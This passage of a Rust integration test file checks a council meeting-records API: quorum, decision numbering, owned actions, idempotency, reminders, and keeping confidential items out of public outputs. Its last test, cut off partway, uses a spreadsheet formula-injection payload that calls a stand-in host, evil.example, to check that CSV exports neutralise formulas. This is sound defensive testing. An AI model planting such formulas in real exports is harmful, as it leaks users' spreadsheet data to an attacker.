//! The meeting record and follow-through on a real server: attendance and
//! quorum, declarations, decisions numbered without gaps, actions with
//! named owners, and the rules on bad input and double submission.

use serde_json::{Value, json};

use crate::builders::{Board, board, complete, post};
use crate::helpers::{TestApp, error_fields, json};

/// The meeting's minutes, approved (as the next meeting would).
async fn approve_minutes(app: &TestApp, meeting: &str) {
    let meeting = meeting.to_string();
    app.state
        .tx(move |c| {
            let now = chrono::Utc::now().naive_utc();
            Ok(quorate::db::minutes::insert(
                c,
                &quorate::db::minutes::Minutes {
                    meeting_id: meeting,
                    status: "approved".into(),
                    body_markdown: "Approved.".into(),
                    exempt_markdown: String::new(),
                    version: 1,
                    circulated_at: Some(now),
                    approved_at: Some(now),
                    approved_at_meeting_id: None,
                    updated_at: now,
                },
            )?)
        })
        .await
        .expect("minutes approved");
}

async fn user_id(app: &TestApp, email: &str) -> String {
    let email = email.to_string();
    app.state
        .db(move |c| Ok(quorate::db::users::find_by_email(c, &email)?))
        .await
        .expect("lookup")
        .map(|u| u.id)
        .unwrap_or_default()
}

/// The agenda's item ids by kind, after an accepted paper joins it.
async fn items(app: &TestApp, b: &Board) -> Value {
    json(
        app.get(
            &format!("/api/v1/meetings/{}/agenda", b.meeting),
            Some(&b.clerk),
        )
        .await,
    )
    .await
}

fn item_of(agenda: &Value, kind: &str) -> String {
    agenda["items"]
        .as_array()
        .and_then(|v| v.iter().find(|i| i["kind"] == kind))
        .and_then(|i| i["id"].as_str())
        .unwrap_or_default()
        .to_string()
}

/// Submits an author's paper, so it stands on the agenda.
async fn submitted_paper(app: &TestApp, b: &Board, cover: Value) {
    let resp = post(
        app,
        &format!("/api/v1/meetings/{}/papers", b.meeting),
        &b.author,
        cover,
    )
    .await;
    assert_eq!(resp.status(), 201);
    let paper = json(resp).await["id"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let resp = post(
        app,
        &format!("/api/v1/papers/{paper}/submit"),
        &b.author,
        json!({}),
    )
    .await;
    assert_eq!(resp.status(), 200);
}

async fn patch_action(
    app: &TestApp,
    id: &str,
    token: &str,
    version: Option<i64>,
    body: Value,
) -> reqwest::Response {
    let mut req = app
        .api
        .patch(app.url(&format!("/api/v1/actions/{id}")))
        .bearer_auth(token)
        .json(&body);
    if let Some(v) = version {
        req = req.header("If-Match", format!("\"{v}\""));
    }
    req.send().await.expect("patch")
}

#[tokio::test]
async fn the_secretariat_records_a_meeting_and_owners_follow_through() {
    let app = TestApp::spawn().await;
    let b = board(&app).await;
    submitted_paper(&app, &b, complete(&b)).await;
    let a = items(&app, &b).await;
    let decl_item = item_of(&a, "declarations");
    let paper_item = item_of(&a, "substantive");
    let chair = user_id(&app, "chair@test.example").await;
    let ceo = user_id(&app, "ceo@ashby.example").await;
    let police_member = user_id(&app, "member@police.example").await;
    let police_officer = user_id(&app, "officer@police.example").await;

    // Attendance, with the quorum as it changes (3 voting members: quorum 3).
    let put = |user: String, body: Value| {
        let url = app.url(&format!("/api/v1/meetings/{}/attendance/{user}", b.meeting));
        let req = app.api.put(url).bearer_auth(&b.clerk).json(&body);
        async move { req.send().await.expect("attendance") }
    };
    let r = json(put(chair.clone(), json!({"status": "present"})).await).await;
    assert_eq!(
        (
            r["quorum"]["present"].as_i64(),
            r["quorum"]["needed"].as_i64(),
            r["quorum"]["met"].as_bool()
        ),
        (Some(1), Some(3), Some(false))
    );
    put(ceo.clone(), json!({"status": "present"})).await;
    put(police_member.clone(), json!({"status": "apologies"})).await;
    let r = json(
        put(
            police_officer.clone(),
            json!({"status": "present", "substitute_for": police_member}),
        )
        .await,
    )
    .await;
    assert_eq!(
        r["quorum"]["met"], true,
        "a substitute makes the meeting quorate: {r}"
    );
    let resp = put(police_officer.clone(), json!({"status": "late"})).await;
    assert_eq!(resp.status(), 422);

    // A declaration, and a decision on an item of another meeting is refused.
    let resp = post(&app, &format!("/api/v1/meetings/{}/declarations", b.meeting), &b.clerk,
        json!({"item_id": paper_item, "user_id": ceo, "interest": "Trustee of a youth charity bidding for the contract"})).await;
    assert_eq!(resp.status(), 201);
    let resp = post(&app, "/api/v1/bodies/psb/meetings", &b.clerk, json!({"starts_at": "2027-03-09T14:00:00Z", "ends_at": "2027-03-09T16:00:00Z", "location": "County Hall"})).await;
    let other = json(resp).await["id"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let resp = post(
        &app,
        &format!("/api/v1/meetings/{other}/decisions"),
        &b.clerk,
        json!({"item_id": paper_item, "text": "Agreed."}),
    )
    .await;
    assert_eq!(resp.status(), 422);
    assert_eq!(error_fields(&json(resp).await), ["item_id"]);

    // Two decisions, numbered per body and year; a double submit is one record.
    let decide_path = format!("/api/v1/meetings/{}/decisions", b.meeting);
    let decide = |text: &str, key: &str| {
        post(
            &app,
            &decide_path,
            &b.clerk,
            json!({"item_id": paper_item, "text": text, "idempotency_key": key}),
        )
    };
    let d1 = json(decide("Approved £20,000 for two youth clubs.", "form-1").await).await;
    let again = json(decide("Approved £20,000 for two youth clubs.", "form-1").await).await;
    let d2 = json(decide("Asked the police to report on evening patrols.", "form-2").await).await;
    assert_eq!(d1["reference"], "psb/2027/001");
    assert_eq!(
        again["id"], d1["id"],
        "resubmitting the same form records nothing new"
    );
    assert_eq!(d2["reference"], "psb/2027/002");
    // The same key with a different resolution is refused, and nothing is
    // recorded: the next decision still takes number 003.
    let resp = decide("Approved £30,000 for three youth clubs.", "form-1").await;
    assert_eq!(resp.status(), 409);
    let problem = json(resp).await;
    assert_eq!(
        problem["errors"][0]["code"], "idempotency_key_reused",
        "{problem}"
    );
    // The key may come in the Idempotency-Key header instead.
    let by_header = || async {
        app.api
            .post(app.url(&decide_path))
            .bearer_auth(&b.clerk)
            .header("Idempotency-Key", "form-3")
            .json(&json!({"item_id": paper_item, "text": "Noted the evening bus figures."}))
            .send()
            .await
            .expect("decide")
    };
    let d3 = json(by_header().await).await;
    assert_eq!(d3["reference"], "psb/2027/003", "{d3}");
    assert_eq!(json(by_header().await).await["id"], d3["id"]);
    let resp = app
        .api
        .post(app.url(&decide_path))
        .bearer_auth(&b.clerk)
        .header("Idempotency-Key", "form-4")
        .json(&json!({"item_id": paper_item, "text": "x", "idempotency_key": "form-5"}))
        .send()
        .await
        .expect("decide");
    assert_eq!(resp.status(), 422, "two different keys in one request");
    let _ = decl_item;

    // Actions: owner and due date are both required, and reported together.
    let resp = post(
        &app,
        "/api/v1/actions",
        &b.clerk,
        json!({"decision_id": d1["id"], "description": "Open the clubs"}),
    )
    .await;
    assert_eq!(resp.status(), 422);
    let fields = error_fields(&json(resp).await);
    assert!(
        fields.contains(&"owner_user_id".into()) && fields.contains(&"due_on".into()),
        "{fields:?}"
    );
    let resp = post(&app, "/api/v1/actions", &b.clerk, json!({"decision_id": d1["id"], "description": "Open the clubs", "owner_user_id": "nobody", "due_on": "2027-04-01"})).await;
    assert_eq!(resp.status(), 422);
    assert!(json(resp).await.to_string().contains("unknown_person"));
    let mut ids = Vec::new();
    for (desc, owner, due, key) in [
        (
            "Open the two clubs",
            b.author_id.clone(),
            "2027-04-01",
            "a1",
        ),
        (
            "Report on patrols",
            police_officer.clone(),
            "2027-02-01",
            "a2",
        ),
        (
            "Publish the funding decision",
            b.author_id.clone(),
            "2027-01-20",
            "a3",
        ),
    ] {
        let resp = post(&app, "/api/v1/actions", &b.clerk,
            json!({"decision_id": d1["id"], "description": desc, "owner_user_id": owner, "due_on": due, "idempotency_key": key})).await;
        assert_eq!(
            resp.status(),
            201,
            "{}",
            resp.text().await.unwrap_or_default()
        );
        ids.push(
            json(resp).await["id"]
                .as_str()
                .unwrap_or_default()
                .to_string(),
        );
    }
    let resp = post(&app, "/api/v1/actions", &b.clerk,
        json!({"decision_id": d1["id"], "description": "Open the two clubs", "owner_user_id": b.author_id, "due_on": "2027-04-01", "idempotency_key": "a1"})).await;
    assert_eq!(
        json(resp).await["id"],
        json!(ids[0]),
        "a double click makes one action"
    );
    let resp = post(&app, "/api/v1/actions", &b.clerk,
        json!({"decision_id": d1["id"], "description": "Open the two clubs", "owner_user_id": b.author_id, "due_on": "2027-06-01", "idempotency_key": "a1"})).await;
    assert_eq!(resp.status(), 409, "the same key with another due date");

    // The owner is told, sees it in their list, and is the only one (with the secretariat) who may change it.
    app.run_pending_jobs().await;
    assert!(
        app.emails()
            .iter()
            .any(|m| m.to.iter().any(|t| t.contains("author@ashby.example"))
                && m.data.contains("Open the two clubs"))
    );
    let mine = json(
        app.get(
            &format!("/api/v1/actions?owner={}", b.author_id),
            Some(&b.author),
        )
        .await,
    )
    .await;
    assert_eq!(mine["items"].as_array().map(Vec::len), Some(2));
    let resp = patch_action(
        &app,
        &ids[0],
        &b.officer_elsewhere,
        None,
        json!({"note": "Not mine"}),
    )
    .await;
    assert_eq!(resp.status(), 403);
    let resp = patch_action(
        &app,
        &ids[0],
        &b.author,
        Some(1),
        json!({"status": "in_progress", "note": "Venues booked"}),
    )
    .await;
    assert_eq!(resp.status(), 200);
    let resp = patch_action(&app, &ids[0], &b.author, Some(1), json!({"note": "stale"})).await;
    assert_eq!(resp.status(), 412);
    // Re-dating needs a reason, and the owner is told when the secretariat does it.
    let resp = patch_action(
        &app,
        &ids[0],
        &b.clerk,
        None,
        json!({"due_on": "2027-05-01"}),
    )
    .await;
    assert_eq!(resp.status(), 422);
    assert_eq!(error_fields(&json(resp).await), ["reason"]);
    let resp = patch_action(
        &app,
        &ids[0],
        &b.clerk,
        None,
        json!({"due_on": "2027-05-01", "reason": "The second venue opens in April"}),
    )
    .await;
    assert_eq!(resp.status(), 200);
    let resp = patch_action(&app, &ids[2], &b.author, None, json!({"status": "dropped"})).await;
    assert_eq!(resp.status(), 422, "dropping needs a reason");
    let resp = patch_action(&app, &ids[2], &b.author, None, json!({"status": "done"})).await;
    assert_eq!(resp.status(), 200);
    let resp = patch_action(&app, &ids[2], &b.author, None, json!({"status": "open"})).await;
    assert_eq!(resp.status(), 409, "closed actions stay closed");
    let detail = json(
        app.get(&format!("/api/v1/actions/{}", ids[0]), Some(&b.author))
            .await,
    )
    .await;
    let kinds: Vec<&str> = detail["history"]
        .as_array()
        .map(|h| h.iter().filter_map(|e| e["kind"].as_str()).collect())
        .unwrap_or_default();
    assert_eq!(kinds, ["created", "note", "status", "due_changed"]);
    assert_eq!(detail["due_on"], "2027-05-01");
    app.run_pending_jobs().await;
    assert!(
        app.emails()
            .iter()
            .any(|m| m.data.contains("The second venue opens in April")),
        "owner told of the new date"
    );

    // Follow-through: the author's council closed one on time; two decisions
    // (the patrols and the bus figures) have no action.
    let f = json(app.get("/api/v1/bodies/psb/follow-through", None).await).await;
    let district = f["organisations"]
        .as_array()
        .and_then(|o| {
            o.iter()
                .find(|x| x["organisation_id"] == json!(b.district))
                .cloned()
        })
        .unwrap_or_default();
    assert_eq!(district["actions_total"], 2);
    assert_eq!(district["closed_on_time"], 1);
    assert_eq!(f["decisions_without_actions"], 2);
    let org = json(
        app.get(
            &format!("/api/v1/organisations/{}/follow-through", b.district),
            None,
        )
        .await,
    )
    .await;
    assert_eq!(org["bodies"][0]["body_slug"], "psb", "{org}");
    assert_eq!(org["bodies"][0]["closed_on_time"], 1);
    let page = app
        .api
        .get(app.url(&format!("/organisations/{}/follow-through", b.district)))
        .send()
        .await
        .expect("page")
        .text()
        .await
        .unwrap_or_default();
    assert!(
        page.contains("Ashby District Council")
            && page.contains("<caption>Follow-through by body</caption>"),
        "{page}"
    );
    let register = json(app.get("/api/v1/decisions?body=psb&q=patrols", None).await).await;
    assert_eq!(register["items"].as_array().map(Vec::len), Some(1));
    assert_eq!(register["items"][0]["reference"], "psb/2027/002");
    // The register pages with a cursor: one at a time, newest first, every
    // decision once, and the last page says there is no more.
    let mut seen = Vec::new();
    let mut cursor = String::new();
    for _ in 0..10 {
        let page = json(
            app.get(
                &format!("/api/v1/decisions?body=psb&limit=1&cursor={cursor}"),
                None,
            )
            .await,
        )
        .await;
        for d in page["items"].as_array().into_iter().flatten() {
            seen.push(d["reference"].as_str().unwrap_or_default().to_string());
        }
        match page["next_cursor"].as_str() {
            Some(c) => cursor = c.to_string(),
            None => break,
        }
    }
    assert_eq!(seen, ["psb/2027/003", "psb/2027/002", "psb/2027/001"]);
    let resp = app.get("/api/v1/decisions?cursor=not-ours", None).await;
    assert_eq!(resp.status(), 400, "a cursor the API did not give out");
}

#[tokio::test]
async fn decision_numbers_have_no_gaps_or_duplicates_under_concurrent_writes() {
    let app = TestApp::spawn().await;
    let b = board(&app).await;
    let a = items(&app, &b).await;
    let item = item_of(&a, "minutes");
    let url = app.url(&format!("/api/v1/meetings/{}/decisions", b.meeting));
    let mut tasks = Vec::new();
    for n in 0..8 {
        let req = app
            .api
            .post(url.clone())
            .bearer_auth(&b.clerk)
            .json(&json!({"item_id": item, "text": format!("Resolution {n}")}));
        tasks.push(tokio::spawn(async move {
            req.send()
                .await
                .expect("decision")
                .json::<Value>()
                .await
                .unwrap_or(Value::Null)
        }));
    }
    let mut refs = Vec::new();
    for t in tasks {
        refs.push(
            t.await.expect("task")["reference"]
                .as_str()
                .unwrap_or_default()
                .to_string(),
        );
    }
    refs.sort();
    let expected: Vec<String> = (1..=8).map(|n| format!("psb/2027/{n:03}")).collect();
    assert_eq!(refs, expected);
}

#[tokio::test]
async fn owners_are_reminded_and_long_overdue_actions_escalate_once() {
    let app = TestApp::spawn().await;
    let b = board(&app).await;
    // A paper from Ashby signed off by its director, not by Ashby's member
    // on the board.
    let org = b.district.clone();
    let director = app.create_user("director@ashby.example", &org, false).await;
    let mut cover = complete(&b);
    cover["sponsor_user_id"] = json!(director.id);
    submitted_paper(&app, &b, cover).await;
    let a = items(&app, &b).await;
    let item = item_of(&a, "minutes");
    let paper_item = item_of(&a, "substantive");
    // Thursday 26 November 2026; due Thursday 3 December: 5 working days.
    let resp = post(&app, "/api/v1/actions", &b.clerk, json!({"item_id": item, "description": "Book the venue", "owner_user_id": b.author_id, "due_on": "2026-12-03"})).await;
    assert_eq!(resp.status(), 201);
    let resp = post(&app, "/api/v1/actions", &b.clerk, json!({"item_id": paper_item, "description": "Cost the youth clubs", "owner_user_id": b.author_id, "due_on": "2026-12-31"})).await;
    assert_eq!(resp.status(), 201);
    let costing_id = json(resp).await["id"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    app.run_pending_jobs().await;
    let before = app.emails().len();
    let remind = || {
        let parts = app.state.ctx_parts();
        app.state
            .tx(move |c| quorate::services::actions::send_reminders(c, &parts.ctx()))
    };
    assert_eq!(
        remind().await.expect("reminders"),
        1,
        "only the venue is 5 working days away"
    );
    assert_eq!(remind().await.expect("reminders"), 0, "sent once");
    app.run_pending_jobs().await;
    let mails = app.emails();
    assert_eq!(mails.len(), before + 1);
    assert!(
        mails
            .iter()
            .any(|m| m.to.iter().any(|t| t.contains("author@ashby.example"))
                && m.data.contains("Action due Thursday 3 December 2026"))
    );
    // The worker will not look at the costing again until 5 working days
    // before 31 December; brought forward to Friday 4 December, it is
    // looked at afresh at the next tick.
    let resp = crate::builders::patch(
        &app,
        &format!("/api/v1/actions/{costing_id}"),
        &b.author,
        Some(1),
        &json!({"due_on": "2026-12-04", "reason": "The budget meeting moved earlier."}),
    )
    .await;
    assert_eq!(resp.status(), 200);
    assert_eq!(remind().await.expect("reminders"), 0, "6 working days away");
    app.clock.set(
        chrono::TimeZone::with_ymd_and_hms(&chrono::Utc, 2026, 11, 27, 9, 0, 0)
            .single()
            .expect("time"),
    );
    assert_eq!(remind().await.expect("reminders"), 1, "5 working days away");
    app.run_pending_jobs().await;
    assert!(
        app.emails()
            .iter()
            .any(|m| m.data.contains("Action due Friday 4 December 2026"))
    );
    // Ten working days overdue (Friday 18 December for both): each action
    // escalates, once, to the chair and the owner's sponsor.
    app.clock.set(
        chrono::TimeZone::with_ymd_and_hms(&chrono::Utc, 2026, 12, 18, 9, 0, 0)
            .single()
            .expect("time"),
    );
    assert!(
        remind().await.expect("reminders") >= 4,
        "two escalations for each action"
    );
    assert_eq!(remind().await.expect("reminders"), 0);
    app.run_pending_jobs().await;
    let escalated = |about: &str| -> Vec<String> {
        app.emails()
            .iter()
            .filter(|m| m.data.contains("Overdue action escalated") && m.data.contains(about))
            .flat_map(|m| m.to.clone())
            .collect()
    };
    let mut venue = escalated("Book the venue");
    venue.sort();
    assert!(
        venue.len() == 2
            && venue[0].contains("ceo@ashby.example")
            && venue[1].contains("chair@test.example"),
        "without a paper, the sponsor is the owner organisation's member: {venue:?}"
    );
    let mut costing = escalated("Cost the youth clubs");
    costing.sort();
    assert!(
        costing.len() == 2
            && costing[0].contains("chair@test.example")
            && costing[1].contains("director@ashby.example"),
        "the paper's sponsor hears, not the organisation's member: {costing:?}"
    );
    let all = [venue, costing].concat();
    assert!(
        !all.iter()
            .any(|t| t.contains("member@police.example") || t.contains("author@ashby.example")),
        "other partners are not told, and the owner has the overdue reminder: {all:?}"
    );
}

#[tokio::test]
async fn exempt_decisions_stay_out_of_the_public_register() {
    let app = TestApp::spawn().await;
    let b = board(&app).await;
    let resp = post(&app, &format!("/api/v1/meetings/{}/agenda/items", b.meeting), &b.clerk,
        json!({"title": "Meeting dates for 2027", "item_type": "decision", "verbal_reason": "The calendar was agreed last week"})).await;
    assert_eq!(resp.status(), 201);
    let open_item = json(resp).await["id"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let resp = post(
        &app,
        &format!("/api/v1/meetings/{}/decisions", b.meeting),
        &b.clerk,
        json!({"item_id": open_item, "text": "Approved the meeting dates for 2027."}),
    )
    .await;
    assert_eq!(
        resp.status(),
        201,
        "{}",
        resp.text().await.unwrap_or_default()
    );
    let resp = post(&app, &format!("/api/v1/meetings/{}/agenda/items", b.meeting), &b.clerk,
        json!({"title": "Tender award", "item_type": "decision", "verbal_reason": "Prices are confidential", "exempt_category": 3})).await;
    assert_eq!(resp.status(), 201);
    let item = json(resp).await["id"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let resp = post(
        &app,
        &format!("/api/v1/meetings/{}/decisions", b.meeting),
        &b.clerk,
        json!({"item_id": item, "text": "Awarded the contract to ZQXBIDDER."}),
    )
    .await;
    assert_eq!(resp.status(), 201);
    let public = app
        .get("/api/v1/decisions", None)
        .await
        .text()
        .await
        .unwrap_or_default();
    assert!(!public.contains("ZQXBIDDER"), "{public}");
    // The newest decision is exempt: a page of one still holds one decision
    // the public may see (the limit counts only what the reader may see).
    let first = json(app.get("/api/v1/decisions?limit=1", None).await).await["items"].clone();
    assert!(
        first.as_array().map(Vec::len) == Some(1)
            && first[0]["text"] == "Approved the meeting dates for 2027.",
        "{first}"
    );
    let officer = app
        .get("/api/v1/decisions", Some(&b.officer_elsewhere))
        .await
        .text()
        .await
        .unwrap_or_default();
    assert!(
        !officer.contains("ZQXBIDDER") && officer.contains("Approved the meeting dates"),
        "an officer of the body does not see exempt decisions: {officer}"
    );
    let page = app
        .api
        .get(app.url("/decisions"))
        .send()
        .await
        .expect("register")
        .text()
        .await
        .unwrap_or_default();
    assert!(!page.contains("ZQXBIDDER"));
    let csv_text = app
        .api
        .get(app.url("/bodies/psb/decisions.csv"))
        .send()
        .await
        .expect("csv")
        .text()
        .await
        .unwrap_or_default();
    assert!(!csv_text.contains("ZQXBIDDER"));
    // An action on the exempt item stays out of the public actions CSV and
    // the public follow-through pages, and out of an officer's list.
    let resp = post(&app, "/api/v1/actions", &b.clerk,
        json!({"item_id": item, "description": "Tell ZQXBIDDER the outcome", "owner_user_id": b.author_id, "due_on": "2027-02-01"})).await;
    assert_eq!(resp.status(), 201);
    for path in [
        "/bodies/psb/actions.csv",
        "/bodies/psb/follow-through",
        "/api/v1/bodies/psb/follow-through",
        "/bodies/psb/feed.atom",
    ] {
        let text = app
            .api
            .get(app.url(path))
            .send()
            .await
            .expect("public output")
            .text()
            .await
            .unwrap_or_default();
        assert!(!text.contains("ZQXBIDDER"), "{path}");
    }
    let officer_list = app
        .get("/api/v1/actions?body=psb", Some(&b.officer_elsewhere))
        .await
        .text()
        .await
        .unwrap_or_default();
    assert!(!officer_list.contains("ZQXBIDDER"), "{officer_list}");
    let member = app
        .get("/api/v1/decisions", Some(&b.member))
        .await
        .text()
        .await
        .unwrap_or_default();
    assert!(member.contains("ZQXBIDDER"), "members see it");
    // Search finds it only for those who may see it.
    let public = json(app.get("/api/v1/search?q=ZQXBIDDER", None).await).await;
    assert_eq!(
        public["items"].as_array().map(Vec::len),
        Some(0),
        "{public}"
    );
    let found = json(app.get("/api/v1/search?q=ZQXBIDDER", Some(&b.member)).await).await;
    let mut kinds: Vec<String> = found["items"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|h| h["kind"].as_str().unwrap_or_default().to_string())
        .collect();
    kinds.sort();
    assert_eq!(kinds, ["action", "decision"], "{found}");
    // A page at a time: one, then (with the cursor) the other.
    let first = json(
        app.get("/api/v1/search?q=ZQXBIDDER&limit=1", Some(&b.member))
            .await,
    )
    .await;
    assert_eq!(first["items"].as_array().map(Vec::len), Some(1), "{first}");
    let cursor = first["next_cursor"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let second = json(
        app.get(
            &format!("/api/v1/search?q=ZQXBIDDER&limit=1&cursor={cursor}"),
            Some(&b.member),
        )
        .await,
    )
    .await;
    assert_ne!(
        second["items"][0]["kind"], first["items"][0]["kind"],
        "{second}"
    );
    assert!(second["next_cursor"].is_null(), "{second}");
    let page = app
        .api
        .get(app.url("/search?q=Tender"))
        .send()
        .await
        .expect("search page")
        .text()
        .await
        .unwrap_or_default();
    assert!(page.contains("Nothing matched every word") && !page.contains("ZQXBIDDER"));
    // The public follow-through counts the confidential decision and says so,
    // so its figures never silently disagree with the public register.
    let follow = json(app.get("/api/v1/bodies/psb/follow-through", None).await).await;
    assert_eq!(follow["confidential_decisions"], 1, "{follow}");
    assert_eq!(follow["confidential_actions"], 1, "{follow}");
    let page = app
        .api
        .get(app.url("/bodies/psb/follow-through"))
        .send()
        .await
        .expect("follow-through")
        .text()
        .await
        .unwrap_or_default();
    assert!(
        page.contains(
            "These figures include 1 confidential action and 1 confidential decision, counted here but not published."
        ),
        "{page}"
    );
}

#[tokio::test]
async fn an_officer_pages_through_every_action_they_may_see() {
    let app = TestApp::spawn().await;
    let b = board(&app).await;
    let path = format!("/api/v1/meetings/{}/agenda/items", b.meeting);
    let item = |title: &str, exempt: bool| {
        let mut body =
            json!({"title": title, "item_type": "decision", "verbal_reason": "Oral report"});
        if exempt {
            body["exempt_category"] = json!(3);
        }
        post(&app, &path, &b.clerk, body)
    };
    let public_item = json(item("Venues", false).await).await["id"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let exempt_item = json(item("Tender award", true).await).await["id"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    // Created in this order: public, exempt, public, exempt, public.
    for (n, on) in [
        &public_item,
        &exempt_item,
        &public_item,
        &exempt_item,
        &public_item,
    ]
    .into_iter()
    .enumerate()
    {
        let resp = post(&app, "/api/v1/actions", &b.clerk, json!({"item_id": on, "description": format!("Action {n}"), "owner_user_id": b.author_id, "due_on": "2027-02-01"})).await;
        assert_eq!(resp.status(), 201);
    }
    // The police officer may not see exempt material; two at a time, the
    // pages still hold every public action and end where the list does.
    let mut seen = Vec::new();
    let mut cursor = String::new();
    for _ in 0..5 {
        let page = json(
            app.get(
                &format!("/api/v1/actions?body=psb&limit=2&cursor={cursor}"),
                Some(&b.officer_elsewhere),
            )
            .await,
        )
        .await;
        for a in page["items"].as_array().into_iter().flatten() {
            seen.push(a["description"].as_str().unwrap_or_default().to_string());
        }
        match page["next_cursor"].as_str() {
            Some(c) => cursor = c.to_string(),
            None => break,
        }
    }
    assert_eq!(seen, ["Action 0", "Action 2", "Action 4"]);
    // The owner sees their exempt actions too; the secretariat sees all.
    let owner = json(
        app.get("/api/v1/actions?body=psb&limit=50", Some(&b.author))
            .await,
    )
    .await;
    assert_eq!(owner["items"].as_array().map(Vec::len), Some(5), "{owner}");
    let clerk = json(
        app.get("/api/v1/actions?body=psb&limit=50", Some(&b.clerk))
            .await,
    )
    .await;
    assert_eq!(clerk["items"].as_array().map(Vec::len), Some(5), "{clerk}");
    // The public figures count all five and say that two are confidential.
    let follow = json(app.get("/api/v1/bodies/psb/follow-through", None).await).await;
    assert_eq!(follow["confidential_actions"], 2, "{follow}");
    assert_eq!(follow["organisations"][0]["actions_total"], 5, "{follow}");
    let org = json(
        app.get(
            &format!("/api/v1/organisations/{}/follow-through", b.district),
            None,
        )
        .await,
    )
    .await;
    assert_eq!(org["confidential_actions"], 2, "{org}");
    let page = app
        .api
        .get(app.url(&format!("/organisations/{}/follow-through", b.district)))
        .send()
        .await
        .expect("page")
        .text()
        .await
        .unwrap_or_default();
    assert!(
        page.contains("These figures include 2 confidential actions"),
        "{page}"
    );
}

/// An idempotency key replays only the caller's own request to the same
/// place: a secretariat of another body who sends a Board key gets a new
/// record of their own, never the Board's (it used to return the Board's
/// decision, exempt text and all, relabelled as theirs); two clerks who pick
/// the same key on different meetings both get their write.
#[tokio::test]
async fn an_idempotency_key_never_replays_another_bodys_record() {
    let app = TestApp::spawn().await;
    let b = board(&app).await;
    // A second body, with its own secretariat and meeting.
    let resp = app
        .post_json(
            "/api/v1/bodies",
            Some(&b.admin),
            &json!({"name": "Ashby Local Partnership", "slug": "ashby-lp", "kind": "partnership"}),
        )
        .await;
    assert_eq!(
        resp.status(),
        201,
        "{}",
        resp.text().await.unwrap_or_default()
    );
    let other = app
        .create_user("clerk@ashby.example", &b.district, false)
        .await;
    let resp = app
        .put_json(
            &format!("/api/v1/bodies/ashby-lp/members/{}", other.id),
            Some(&b.admin),
            &json!({"role": "secretariat"}),
        )
        .await;
    assert!(resp.status().is_success());
    let other_clerk = app.token_for(&other.id).await;
    let resp = app
        .post_json(
            "/api/v1/bodies/ashby-lp/meetings",
            Some(&other_clerk),
            &json!({"starts_at": "2027-01-14T14:00:00Z", "ends_at": "2027-01-14T16:00:00Z", "location": "Ashby Town Hall"}),
        )
        .await;
    assert_eq!(resp.status(), 201);
    let other_meeting = json(resp).await["id"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let first_item = |agenda: &Value| {
        agenda["items"][0]["id"]
            .as_str()
            .unwrap_or_default()
            .to_string()
    };
    let board_item = first_item(&items(&app, &b).await);
    let other_item = first_item(
        &json(
            app.get(
                &format!("/api/v1/meetings/{other_meeting}/agenda"),
                Some(&other_clerk),
            )
            .await,
        )
        .await,
    );

    let board_decision = json(
        post(
            &app,
            &format!("/api/v1/meetings/{}/decisions", b.meeting),
            &b.clerk,
            json!({"item_id": board_item, "text": "Board only: the depot sale price.", "idempotency_key": "shared-key"}),
        )
        .await,
    )
    .await;
    assert!(board_decision["id"].is_string(), "{board_decision}");

    // The other body's clerk replays the Board's key on their own meeting.
    let resp = post(
        &app,
        &format!("/api/v1/meetings/{other_meeting}/decisions"),
        &other_clerk,
        json!({"item_id": other_item, "text": "x", "idempotency_key": "shared-key"}),
    )
    .await;
    assert_eq!(resp.status(), 201);
    let theirs = json(resp).await;
    assert_ne!(
        theirs["id"], board_decision["id"],
        "a new record, not the Board's"
    );
    assert_eq!(theirs["text"], "x");
    assert!(
        !theirs.to_string().contains("depot sale price"),
        "the Board's text leaked: {theirs}"
    );

    // Declarations and actions are scoped the same way.
    let board_owner = user_id(&app, "ceo@ashby.example").await;
    let d1 = json(
        post(
            &app,
            &format!("/api/v1/meetings/{}/declarations", b.meeting),
            &b.clerk,
            json!({"item_id": board_item, "user_id": board_owner, "interest": "Board only: owns land at the depot.", "idempotency_key": "decl-key"}),
        )
        .await,
    )
    .await;
    assert!(d1["id"].is_string(), "{d1}");
    let other_member = user_id(&app, "clerk@ashby.example").await;
    let d2 = json(
        post(
            &app,
            &format!("/api/v1/meetings/{other_meeting}/declarations"),
            &other_clerk,
            json!({"item_id": other_item, "user_id": other_member, "interest": "None that matters.", "idempotency_key": "decl-key"}),
        )
        .await,
    )
    .await;
    assert_ne!(d2["id"], d1["id"], "{d2}");
    assert!(!d2.to_string().contains("depot"), "{d2}");

    let action = |token: String, item: String, owner: String, what: &'static str| {
        let app = &app;
        async move {
            json(
                post(
                    app,
                    "/api/v1/actions",
                    &token,
                    json!({"item_id": item, "description": what, "owner_user_id": owner, "due_on": "2027-03-31", "idempotency_key": "act-key"}),
                )
                .await,
            )
            .await
        }
    };
    let a1 = action(
        b.clerk.clone(),
        board_item.clone(),
        board_owner.clone(),
        "Board only: value the depot.",
    )
    .await;
    let a2 = action(
        other_clerk.clone(),
        other_item.clone(),
        other_member.clone(),
        "Book the hall.",
    )
    .await;
    assert!(a1["id"].is_string(), "{a1}");
    assert_ne!(a2["id"], a1["id"], "{a2}");
    assert!(!a2.to_string().contains("depot"), "{a2}");
    // The same clerk's retry still records once.
    let again = action(
        b.clerk.clone(),
        board_item.clone(),
        board_owner.clone(),
        "Board only: value the depot.",
    )
    .await;
    assert_eq!(again["id"], a1["id"]);
}

/// Public CSV downloads never carry a formula: a cell that a spreadsheet
/// would run (an action's text or a drop reason starting with `=`, `+`,
/// `-` or `@`) is written with a leading apostrophe.
#[tokio::test]
async fn csv_downloads_neutralise_formulas() {
    let app = TestApp::spawn().await;
    let b = board(&app).await;
    let item = items(&app, &b).await["items"][0]["id"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let owner = user_id(&app, "ceo@ashby.example").await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
    let resp = post(
        &app,
        "/api/v1/actions",
        &b.clerk,
        json!({"item_id": item, "description": formula, "owner_user_id": owner, "due_on": "2027-03-31"}),
    )
    .await;
    assert_eq!(resp.status(), 201);
    let decided = post(
        &app,
        &format!("/api/v1/meetings/{}/decisions", b.meeting),
        &b.clerk,
